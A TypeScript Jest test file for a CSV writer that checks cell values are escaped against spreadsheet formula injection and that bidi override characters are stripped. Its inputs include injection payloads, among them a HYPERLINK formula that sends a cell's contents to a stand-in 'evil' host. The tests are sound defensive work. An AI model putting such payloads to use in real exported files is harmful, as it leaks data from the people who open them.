import { describe, expect, it } from '@jest/globals';
import { csvHeader, csvLine } from './csv.js';
import { growth } from '../../../test/support/growth.js';

const written = (value: string): string => csvLine([{ isNumber: false, of: (row: string) => row }], value).slice(0, -2);

describe('a text in a cell', () => {
  it.each([
    ['João Lima', 'João Lima'],
    ['a-b, c', '"a-b, c"'],
    ['tx_1; 20-11', 'tx_1; 20-11'],
    ['Bob \u202egnp.exe', 'Bob gnp.exe'],
    ['=1+1', "'=1+1"],
    [' \u200b=1+1', " \u200b'=1+1"],
    ['\uff1d1', "'\uff1d1"],
    ['João;=HYPERLINK("http://evil/?"&A1)', '"João;\'=HYPERLINK(""http://evil/?""&A1)"'],
    ['x";=1+1', '"x"";\'=1+1"'],
    ['x;"=1+41;y', '"x;""\'=1+41;y"'],
    ['""@SUM(1)', '"""""\'@SUM(1)"'],
    ['a\t=1+1', "a\t'=1+1"],
    ['ok\n@SUM(1)', '"ok\n\'@SUM(1)"'],
    ['a; ; \r=1', '"a; ; \r\'=1"'],
  ])('%p is not read as a formula, whatever separates the cells', (value, cell) => expect(written(value)).toBe(cell));

  it('takes a time that grows with its length, and not with its square', () => {
    expect(growth((size) => written('\n'.repeat(size) + '='.repeat(size)), 100_000)).toBeLessThan(1.5);
  });

  it('is not read as a formula in a heading', () => expect(csvHeader(['day', 'a;=1'])).toBe("day,a;'=1\r\n"));

  it('leaves numbers of a number column unchanged', () => {
    expect(csvLine([{ isNumber: true, of: (row: string) => row }], '-9.90')).toBe('-9.90\r\n');
  });
});
